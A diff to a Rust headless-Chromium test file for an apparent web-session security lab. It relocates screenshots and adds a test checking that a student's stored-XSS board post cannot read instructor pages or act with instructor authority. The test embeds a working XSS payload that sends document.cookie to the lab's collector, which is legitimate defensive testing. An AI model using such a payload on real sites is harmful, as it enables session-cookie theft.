@@ -1,6 +1,7 @@
 //! Real headless Chromium through WebDriver, for what only a browser decides: what
 //! `document.cookie` shows, clicks and typing, frames, a phone-sized viewport. Each test starts
-//! the real binary and its own chromedriver, and saves screenshots to docs/screenshots/.
+//! the real binary and its own chromedriver, and saves screenshots to target/screenshots/, or to
+//! docs/screenshots/ (the ones the README shows) when `SESSION_LAB_REFRESH_SCREENSHOTS=1`.
 
 use std::net::{TcpListener, TcpStream};
 use std::process::{Child, Command, Stdio};
@@ -160,9 +161,20 @@ impl Chrome {
         let top = "window.scrollTo(0, 0); document.querySelectorAll('iframe').forEach(function (f) { f.contentWindow.scrollTo(0, 0); });";
         self.client.execute(top, vec![]).await.unwrap();
         let png = self.client.screenshot().await.unwrap();
-        let path = format!("{}/docs/screenshots/{name}.png", env!("CARGO_MANIFEST_DIR"));
-        std::fs::write(&path, png).unwrap();
+        std::fs::write(screenshot_path(name), png).unwrap();
     }
+}
+
+/// Where a screenshot goes: target/screenshots/, unless the committed ones are to be refreshed.
+fn screenshot_path(name: &str) -> String {
+    let root = env!("CARGO_MANIFEST_DIR");
+    let folder = if std::env::var_os("SESSION_LAB_REFRESH_SCREENSHOTS").is_some() {
+        format!("{root}/docs/screenshots")
+    } else {
+        format!("{root}/target/screenshots")
+    };
+    std::fs::create_dir_all(&folder).unwrap();
+    format!("{folder}/{name}.png")
 }
 
 fn block_on<F: std::future::Future<Output = ()>>(test: F) {
@@ -388,11 +400,7 @@ fn the_cookie_editor_opens_the_cookie_staff_page_only() {
             .await
             .unwrap();
         let png = chrome.client.screenshot().await.unwrap();
-        std::fs::write(
-            format!("{}/docs/screenshots/lab-tamper.png", env!("CARGO_MANIFEST_DIR")),
-            png,
-        )
-        .unwrap();
+        std::fs::write(screenshot_path("lab-tamper"), png).unwrap();
         chrome.finish().await;
     });
 }
@@ -475,5 +483,106 @@ fn an_xss_post_sends_the_cookie_flow_password_to_the_collector_and_no_sid() {
         );
         chrome.screenshot("lab-xss-collector").await;
         chrome.finish().await;
+    });
+}
+
+/// What the board script below found it could do, read from the page it ran in.
+async fn marks(chrome: &Chrome) -> serde_json::Value {
+    chrome
+        .client
+        .execute("return Object.assign({}, document.body.dataset)", vec![])
+        .await
+        .unwrap()
+}
+
+/// The issue's chain, in real Chromium: a student's post tries to read the dashboard and the
+/// guess page, open a window, and send what it found away. It runs in the student's own browser
+/// (only the collector is reachable), never in the instructor's, even with the class board on;
+/// and a dashboard control that a script submits without a click is refused.
+#[test]
+#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
+fn a_board_script_never_acts_with_the_instructors_authority() {
+    const ATTACK: &str = r#"<script>
+var mark = document.body.dataset, post = document.currentScript.closest("[data-post]");
+mark.ran = "yes";
+fetch("/instructor").then(function () { mark.dashboard = "read"; }, function () { mark.dashboard = "blocked"; });
+fetch("/lab/guess").then(function () { mark.guess = "read"; }, function () { mark.guess = "blocked"; });
+var w = null; try { w = window.open("/instructor"); } catch (e) {}
+mark.popup = w ? "opened" : "blocked";
+fetch(post.dataset.collector, {method: "POST", body: "found: " + document.cookie}).then(function () { mark.collector = "sent"; }, function () { mark.collector = "blocked"; });
+</script>"#;
+    block_on(async {
+        let server = server();
+        let student = Chrome::start(1366, 900).await;
+        student.log_in_to(&server, &["cookie"]).await;
+        student.client.goto(&server.url("/cookie/board")).await.unwrap();
+        student
+            .client
+            .find(Locator::Css("#post-body"))
+            .await
+            .unwrap()
+            .send_keys(ATTACK)
+            .await
+            .unwrap();
+        student.click("form.card button[type=submit]").await;
+        student.wait_for_text(".posts", "#1").await;
+        let deadline = Instant::now() + Duration::from_secs(10);
+        let found = loop {
+            let found = marks(&student).await;
+            if ["dashboard", "guess", "collector"]
+                .iter()
+                .all(|k| found.get(k).is_some())
+            {
+                break found;
+            }
+            assert!(Instant::now() < deadline, "the script did not finish: {found}");
+            rocket::tokio::time::sleep(Duration::from_millis(100)).await;
+        };
+        assert_eq!(
+            found["ran"], "yes",
+            "positive control: the author's post runs for its author"
+        );
+        assert_eq!(found["dashboard"], "blocked", "{found}");
+        assert_eq!(found["guess"], "blocked", "{found}");
+        assert_eq!(found["popup"], "blocked", "{found}");
+        assert_eq!(found["collector"], "sent", "only the collector is reachable: {found}");
+
+        let teacher = Chrome::start(1366, 900).await;
+        teacher.client.goto(&server.url("/session/login")).await.unwrap();
+        teacher.log_in("teacher", "teacher-pass").await;
+        teacher.wait_for_text("main", "You are logged in as teacher.").await;
+        teacher.client.goto(&server.url("/instructor")).await.unwrap();
+        teacher
+            .click("form[action='/instructor/preset/class-board'] button")
+            .await;
+        teacher.wait_for_text("#presets", "Class board ON").await;
+        teacher.client.goto(&server.url("/cookie/board")).await.unwrap();
+        teacher.wait_for_text(".posts", "mark.ran").await;
+        rocket::tokio::time::sleep(Duration::from_millis(1000)).await;
+        let found = marks(&teacher).await;
+        assert!(
+            found.get("ran").is_none(),
+            "the post ran in the instructor's browser: {found}"
+        );
+
+        // A control submitted by a script on the dashboard itself, without a click: refused.
+        teacher.client.goto(&server.url("/instructor")).await.unwrap();
+        teacher.wait_for_text("h1", "Instructor dashboard").await;
+        teacher
+            .client
+            .execute(
+                "document.querySelector(\"form[action='/instructor/preset/weak-ids']\").submit()",
+                vec![],
+            )
+            .await
+            .unwrap();
+        teacher.wait_for_text("main", "only when a person clicks them").await;
+        teacher.client.goto(&server.url("/instructor")).await.unwrap();
+        let presets = teacher.text("#presets").await;
+        assert!(presets.contains("Switch on weak"), "still off: {presets}");
+        teacher.click("form[action='/instructor/preset/weak-ids'] button").await;
+        teacher.wait_for_text("#presets", "Switch weak ids off").await;
+        teacher.finish().await;
+        student.finish().await;
     });
 }
